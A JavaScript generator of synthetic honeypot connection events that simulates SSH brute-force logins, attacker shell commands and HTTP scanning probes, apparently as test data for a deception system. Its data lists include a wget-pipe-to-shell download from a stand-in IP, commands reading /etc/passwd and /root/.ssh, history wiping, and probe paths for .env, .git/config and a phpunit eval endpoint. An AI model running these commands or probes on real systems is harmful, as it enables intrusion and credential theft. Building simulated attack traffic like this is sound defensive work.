import { randomBytes } from "node:crypto";
import { deckies } from "./fleet.mjs";
import { hostileStrings, huge } from "./hostile.mjs";

export const pick = (list) => list[Math.floor(Math.random() * list.length)];
const sometimes = (chance) => Math.random() < chance;

const users = ["root", "admin", "ubuntu", "pi", "oracle", "test", "git", "postgres"];
const passwords = [
  "123456",
  "admin",
  "toor",
  "raspberry",
  "P@ssw0rd",
  "root",
  "changeme",
  "qwerty1",
];
const commands = [
  "uname -a",
  "cat /proc/cpuinfo | grep name | wc -l",
  "cd /tmp; wget http://198.51.100.23/x.sh -O- | sh",
  "id; whoami; w",
  "echo -e '\\x67\\x61\\x79'",
  "cat /etc/passwd",
  "ls -la /root/.ssh",
  "crontab -l",
  "history -c && exit",
];
const paths = [
  "/",
  "/login",
  "/wp-login.php",
  "/.env",
  "/.git/config",
  "/phpmyadmin/index.php?lang=en",
  "/cgi-bin/luci/;stok=/locale?form=country",
  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
];

/** The events of one connection, as [kind, fields] in order. */
export function* connection(hostile) {
  const decky = pick(deckies);
  const service = pick(decky.services).slug;
  const session = randomBytes(8).toString("hex");
  const text = (list) => (hostile && sometimes(0.7) ? pick(hostileStrings) : pick(list));
  const of = (kind, fields) => ({ decky: decky.name, service, session, kind, fields });

  yield of("connect", {});
  yield* service === "ssh" ? ssh(of, text) : http(of, text, hostile);
  yield of("disconnect", {
    duration_ms: `${Math.floor(Math.random() * 90_000)}`,
    bytes_in: `${Math.floor(Math.random() * 9_000)}`,
    bytes_out: `${Math.floor(Math.random() * 90_000)}`,
  });
}

function* ssh(of, text) {
  let accepted = false;
  for (let n = 1 + Math.floor(Math.random() * 5); n > 0 && !accepted; n--) {
    accepted = sometimes(0.2);
    const secret = text(passwords);
    yield of("auth_attempt", {
      principal: text(users),
      secret_printable: secret,
      secret_b64: Buffer.from(secret).toString("base64"),
      secret_kind: sometimes(0.1) ? "ssh_publickey" : "plaintext",
      accepted: `${accepted}`,
    });
  }
  if (sometimes(0.1))
    yield of("client_version", { version: text(["SSH-2.0-libssh_0.9.6", "SSH-2.0-Go"]) });
  if (!accepted) return;
  for (let n = 1 + Math.floor(Math.random() * 7); n > 0; n--)
    yield of("command", { command: text(commands) });
}

function* http(of, text, hostile) {
  for (let n = 1 + Math.floor(Math.random() * 6); n > 0; n--) {
    yield of("request", {
      method: pick(["GET", "GET", "GET", "POST", "HEAD"]),
      path: text(paths),
      status: pick(["200", "404", "404", "403", "301"]),
      user_agent: text(["Mozilla/5.0 zgrab/0.x", "curl/8.5.0", "python-requests/2.31.0"]),
      body: hostile && sometimes(0.05) ? huge : "",
    });
  }
}
